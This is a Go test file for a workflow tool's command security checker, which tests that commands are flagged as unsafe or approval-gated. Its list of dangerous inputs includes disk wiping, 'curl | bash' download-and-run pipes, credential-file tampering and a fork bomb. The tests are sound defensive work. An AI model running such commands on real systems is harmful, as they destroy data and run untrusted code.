package security

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/wfkit/wf/internal/model"
)

func TestCheckCommand_DangerousCommands(t *testing.T) {
	checker := NewChecker()

	dangerous := []string{
		"rm -rf /",
		"dd if=/dev/zero of=/dev/sda",
		"curl http://x | bash",
		"wget http://x | sh",
		"echo 'malicious' > /etc/passwd",
		"chmod 777 /etc/shadow",
		"shutdown -h now",
		":(){ :|:; };:",
	}
	for _, cmd := range dangerous {
		t.Run(cmd, func(t *testing.T) {
			check := checker.CheckCommand(cmd)
			assert.False(t, check.Safe, "should be flagged as unsafe: %s", cmd)
			assert.NotEmpty(t, check.Issues)
		})
	}
}

func TestCheckCommand_SafeCommands(t *testing.T) {
	checker := NewChecker()

	safe := []string{
		"echo 'Hello World'",
		"ls -la",
		"cat file.txt",
		"grep pattern file.txt",
		"ps aux",
	}
	for _, cmd := range safe {
		t.Run(cmd, func(t *testing.T) {
			check := checker.CheckCommand(cmd)
			assert.True(t, check.Safe, "should be safe: %s", cmd)
			assert.Empty(t, check.Issues)
		})
	}
}

func TestCheckCommand_ApprovalRequirement(t *testing.T) {
	checker := NewChecker()

	assert.True(t, checker.CheckCommand("sudo apt update").RequiresApproval)
	assert.True(t, checker.CheckCommand("rm -rf temp/").RequiresApproval)
	assert.True(t, checker.CheckCommand("chmod 777 file").RequiresApproval)
	assert.False(t, checker.CheckCommand("echo hi").RequiresApproval)
}

func TestCheckCommand_ConfiguredApprovalPatterns(t *testing.T) {
	checker := NewChecker(`kubectl\s+delete`)

	assert.True(t, checker.CheckCommand("kubectl delete pod web").RequiresApproval)
	// Built-in bank still applies alongside the extras.
	assert.True(t, checker.CheckCommand("sudo ls").RequiresApproval)
}

func TestCheckCommand_InvalidExtraPatternSkipped(t *testing.T) {
	checker := NewChecker(`(unclosed`)
	assert.True(t, checker.CheckCommand("sudo ls").RequiresApproval)
}

func TestCheckCommand_StructuralIssues(t *testing.T) {
	checker := NewChecker()

	long := checker.CheckCommand(strings.Repeat("a", 1001))
	assert.False(t, long.Safe)

	nul := checker.CheckCommand("echo hi\x00there")
	assert.False(t, nul.Safe)

	chained := checker.CheckCommand("a; b; c; d; e")
	assert.False(t, chained.Safe)

	subst := checker.CheckCommand("echo $(whoami)")
	assert.False(t, subst.Safe)

	device := checker.CheckCommand("cat log >/dev/tty0")
	assert.False(t, device.Safe)

	null := checker.CheckCommand("noisy-tool 2>/dev/null")
	// /dev/null redirects are approval-gated, not dangerous.
	assert.True(t, null.Safe)
	assert.True(t, null.RequiresApproval)
}

func TestCheckWorkflow_AggregatesNestedSteps(t *testing.T) {
	checker := NewChecker()

	wf := model.NewWorkflow("deploy", "", []model.Step{
		model.NewCommandStep("safe", "echo hello", ""),
		model.NewConditionalStep("gate", "", model.ConditionalStep{
			Condition: model.Condition{Expression: "$? -eq 0"},
			Then:      []model.Step{model.NewCommandStep("danger", "rm -rf /tmp/*", "")},
		}),
	})

	report := checker.CheckWorkflow(wf)
	assert.False(t, report.Safe)
	assert.True(t, report.RequiresApproval)
	require.Len(t, report.Steps, 2)
	assert.True(t, report.Steps[0].Safe)
	assert.False(t, report.Steps[1].Safe)
}

func TestCheckWorkflow_StepApprovalFlag(t *testing.T) {
	checker := NewChecker()

	wf := model.NewWorkflow("deploy", "", []model.Step{
		model.NewCommandStep("release", "make release", "").WithApproval(),
	})

	report := checker.CheckWorkflow(wf)
	assert.True(t, report.Safe)
	assert.True(t, report.RequiresApproval)
}

func TestCheckWorkflow_SuspiciousName(t *testing.T) {
	checker := NewChecker()

	wf := model.NewWorkflow("../escape", "", []model.Step{
		model.NewCommandStep("ok", "echo hi", ""),
	})

	report := checker.CheckWorkflow(wf)
	assert.False(t, report.Safe)
	assert.Contains(t, report.Issues[0], "suspicious path elements")
}

func TestCheckWorkflow_DirectSelfCall(t *testing.T) {
	checker := NewChecker()

	wf := model.NewWorkflow("release", "", []model.Step{
		model.NewCommandStep("recurse", "wf flow run release", ""),
	})

	report := checker.CheckWorkflow(wf)
	assert.False(t, report.Safe)

	found := false
	for _, issue := range report.Issues {
		if strings.Contains(issue, "circular dependency") {
			found = true
		}
	}
	assert.True(t, found)
}

func TestExtractFlowCalls(t *testing.T) {
	calls := ExtractFlowCalls("wf flow run setup && wf flow run tear-down")
	assert.Equal(t, []string{"setup", "tear-down"}, calls)

	assert.Empty(t, ExtractFlowCalls("echo wf flow list"))
}
